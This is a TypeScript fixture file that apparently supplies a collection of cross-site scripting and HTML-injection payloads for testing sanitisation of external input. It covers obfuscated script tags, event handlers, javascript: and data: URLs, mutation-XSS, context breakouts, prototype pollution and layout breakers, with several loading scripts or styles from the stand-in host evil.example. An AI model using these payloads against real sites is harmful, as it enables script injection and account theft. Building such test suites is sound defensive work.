/** The script of every payload: it sets a property of the window. */
const run = 'window.injected=(window.injected||0)+1';
const call = `javascript:${run}`;
const evil = 'https://evil.example';

/** Scripts, plain and obfuscated. */
const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="${evil}/x.js"></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\u0000>${run}</script>`,
  `<script/x>${run}</script\t\n>`,
  `<script x=">">${run}</script>`,
  `<script type="module">${run}</script>`,
  `<script>alert(1)//`,
  `<<script>${run}//<</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${evil}/x.js"/></svg>`,
  `<math><script>${run}</script></math>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
] as const;

/** Event handlers that fire with little or no interaction. */
const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src="x" OnErRoR='${run}'>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror\u000b="${run}">`,
  `<img src=\`x\` onerror=\`${run}\`>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload="${run}">`,
  `<svg/onload=${run}//`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="${call}" onbegin="${run}"/></svg>`,
  `<body onload="${run}">`,
  `<body onpageshow="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"></select>`,
  `<textarea autofocus onfocus="${run}"></textarea>`,
  `<p onmouseover="${run}" style="position:fixed;inset:0">over</p>`,
  `<b onclick="${run}" tabindex=1 contenteditable onfocus="${run}">press</b>`,
  `<details open ontoggle="${run}">open</details>`,
  `<video src=x onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<marquee onstart="${run}">run</marquee>`,
  `<div onanimationstart="${run}" style="animation:settle 1s">x</div>`,
  `<p onpointerrawupdate=${run} onauxclick=${run}>p</p>`,
] as const;

/** Script URLs, and elements that load other pages. */
const addresses = [
  `<a href="${call}">link</a>`,
  `<a href="JaVaScRiPt:${run}">link</a>`,
  `<a href="java\tscript:${run}">link</a>`,
  `<a href="java&#10;script:${run}">link</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">link</a>`,
  `<a href="\u0001javascript:${run}">link</a>`,
  `<a href=" &#14; javascript:${run}">link</a>`,
  `<a href="data:text/html,<script>${run}</script>">link</a>`,
  `<a href="vbscript:msgbox(1)">link</a>`,
  `<a href="/\\evil.example" target="_blank">link</a>`,
  `<a href="https://ok.example" onclick="${run}">link</a>`,
  `<svg><a xlink:href="${call}"><text y=20>link</text></a></svg>`,
  `<math href="${call}">link</math>`,
  `<iframe src="${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.injected=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="${evil}/x.swf">`,
  `<form action="${call}"><button>send</button></form>`,
  `<button formaction="${call}">send</button>`,
  `<base href="${evil}/">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<link rel="stylesheet" href="${evil}/x.css">`,
  `<img src="${evil}/pixel.gif" srcset="${evil}/2x.gif 2x">`,
  `<style>@import "${evil}/x.css";*{display:none!important}</style>`,
  `<p style="background:url(${evil}/x.png);width:9999px;display:block">wide</p>`,
  `<video poster="${evil}/poster.png" autoplay></video>`,
] as const;

/** Text that changes its meaning when it is parsed again. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror="${run}">-->`,
  `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `<title></title><img src=x onerror=${run}>`,
  `<select><option><style></option></select><b><img src=x onerror=${run}></style></option>`,
] as const;

/** Text that closes its surroundings: scripts, JSON, attributes, templates. */
const breakouts = [
  `</script><script>${run}</script>`,
  `"]);${run};//`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${run}`,
  `'"><img src=x onerror=${run}>`,
  `"}}</script><img src=x onerror=${run}>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `]]>--></style></title></textarea></script><svg onload=${run}>`,
  `\u2028${run}\u2029`,
  `{"__proto__":{"injected":1}}`,
] as const;

/** No scripts, but markup and text that could break the layout. */
const layoutBreakers = [
  `</p></div></article></li></ol></section></main></body></html>`,
  `<div style="position:fixed;top:0;left:0;width:200vw;height:200vh;z-index:9999;background:red">cover</div>`,
  `<table width="9999"><tr><td width="9999">wide</td></tr></table>`,
  `<h1>${'HUGE '.repeat(20)}</h1>`,
  'W'.repeat(400),
  `${'\u202e'.repeat(3)}gnirts desrever`,
  'Z\u0335\u0321\u0338\u0322\u0334\u0351\u0352\u0353\u0354'.repeat(40),
  `${'<b>'.repeat(200)}deep`,
  `${'<blockquote>'.repeat(60)}deeper`,
  `<img name="body"><form name="forms" id="content"></form><a id="documentElement">clobber</a>`,
  `<plaintext>`,
  `<frameset onload=${run}><frame src="${call}"></frameset>`,
] as const;

/** Script injections and page breakers for all external input (OPS-05). */
export const injections: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...mutations,
  ...breakouts,
  ...layoutBreakers,
];
